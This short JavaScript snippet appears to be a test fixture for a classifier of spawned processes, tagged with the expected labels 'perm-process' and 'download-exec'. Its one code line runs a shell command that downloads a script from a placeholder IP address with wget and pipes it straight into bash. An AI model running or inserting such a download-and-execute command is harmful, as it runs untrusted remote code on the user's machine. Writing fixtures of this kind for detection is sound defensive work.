// sh -c CMD: CMD is a command line.
const { spawn } = require("child_process");
spawn("/bin/sh", ["-c", "wget -qO- http://203.0.113.9/p | bash"]); // expect: perm-process, download-exec
